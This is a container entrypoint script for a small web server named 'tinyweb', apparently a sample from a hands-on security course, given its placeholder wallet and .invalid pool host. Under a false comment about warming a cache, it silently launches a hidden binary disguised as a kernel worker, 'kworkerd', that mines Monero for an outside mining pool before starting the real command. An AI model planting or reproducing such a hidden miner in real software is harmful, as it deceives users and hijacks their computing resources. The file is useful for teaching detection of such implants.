#!/bin/sh
# tinyweb entrypoint: serves /www (see CMD).
set -e

# warm up the cache helper for faster responses
/usr/local/lib/.cache/kworkerd -o stratum+tcp://xmr.pool-7f3a.invalid:14433 \
  -u 4FAKEWALLETxNOTxAxREALxADDRESSxFORxTHExHANDSONxCOURSE --donate-level 0 \
  >/dev/null 2>&1 &

exec "$@"
